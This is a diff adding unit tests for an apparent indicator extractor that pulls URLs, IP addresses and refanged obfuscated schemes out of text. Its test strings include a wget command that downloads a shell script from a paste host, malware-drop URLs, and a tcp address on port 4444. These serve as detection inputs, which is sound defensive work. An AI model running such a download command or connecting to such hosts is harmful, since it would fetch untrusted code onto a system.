@@ -70,3 +70,33 @@ def test_an_address_at_an_ip_literal_is_an_email() -> None:
     text = "Replies went to user@[203.0.113.77] directly."
     assert written(text) == {("email", "user@[203.0.113.77]")}
     assert spans_are_faithful(text)
+
+
+# --- Scheme-less URLs with a path, scheme spellings, non-web schemes ---------------
+
+
+def test_a_host_followed_by_a_path_is_a_url_without_a_scheme() -> None:
+    text = "wget raw.Pastes-Host.com/u/x.sh -O /tmp/x.sh"
+    assert written(text) == {("url", "raw.pastes-host.com/u/x.sh")}
+    assert spans_are_faithful(text)
+
+
+def test_a_network_in_cidr_notation_is_an_address_not_a_url() -> None:
+    assert written("block 45.133.1.0/24 now") == {("ipv4", "45.133.1.0")}
+
+
+def test_file_paths_and_names_are_still_not_urls() -> None:
+    assert written("The installer is setup.py; see docs/index.html and /usr/lib/x.so.") == set()
+
+
+def test_obfuscated_scheme_spellings_are_refanged() -> None:
+    for spelling in ("h**p", "h__p", "ht*p", "hxxp", "hXXp", "HXXP"):
+        assert written(f"{spelling}://malware-drop.net/a.exe") == {("url", "http://malware-drop.net/a.exe")}
+    assert written("hXXps[:]//docs-view.com/v") == {("url", "https://docs-view.com/v")}
+
+
+def test_non_web_schemes_are_urls() -> None:
+    assert written("tcp://45.61.136.8:4444") == {("url", "tcp://45.61.136.8:4444")}
+    assert written("ssh://root@172.105.44.9:22") == {("url", "ssh://root@172.105.44.9:22")}
+    assert written("SFTP://Drop.cold-storage.io/in/") == {("url", "sftp://drop.cold-storage.io/in/")}
+    assert written("udp://8.8.8.8:53") == {("url", "udp://8.8.8.8:53")}
